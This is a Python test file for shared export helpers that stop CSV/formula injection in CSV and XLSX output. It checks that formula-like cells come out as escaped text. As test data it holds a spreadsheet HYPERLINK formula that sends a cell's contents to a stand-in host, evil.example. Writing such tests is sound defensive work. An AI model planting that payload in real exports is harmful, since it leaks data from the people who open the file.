"""The shared export helpers: formula-like text is written as text in CSV and XLSX (OWASP CSV injection)."""

import csv
import io

import pytest
import tablib
from openpyxl import Workbook, load_workbook

from common.exports import TextCSV, TextXLSX, safe_cell, unescape_cell, workbook_bytes

HOSTILE = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'
RISKY = [HOSTILE, "+84912345678", "-2+3", "@SUM(A1)", "\tcmd", "\r=1+1"]


@pytest.mark.parametrize("value", RISKY)
def test_formula_like_text_gets_an_apostrophe_in_csv_and_back(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Nguyễn Thị Lan", "", "'quoted already", 42, -5, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value
    assert unescape_cell(value) == value


def test_a_saved_workbook_keeps_formula_like_text_as_text():
    book = Workbook()
    book.active.append([*RISKY, 7])

    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active

    cells = sheet[1]
    assert [cell.data_type for cell in cells] == ["s"] * len(RISKY) + ["n"]
    assert [cell.value for cell in cells[:-1]] == RISKY  # the text itself, unchanged
    assert cells[-1].value == 7


def test_the_import_export_formats_write_text():
    dataset = tablib.Dataset([HOSTILE, "-1"], ["Lan", 3], headers=["name", "note"])

    text = TextCSV().export_data(dataset)
    assert list(csv.reader(io.StringIO(text))) == [["name", "note"], ["'" + HOSTILE, "'-1"], ["Lan", "3"]]

    sheet = load_workbook(io.BytesIO(TextXLSX().export_data(dataset))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE
    assert sheet["A1"].value == "name" and sheet["B3"].value == 3
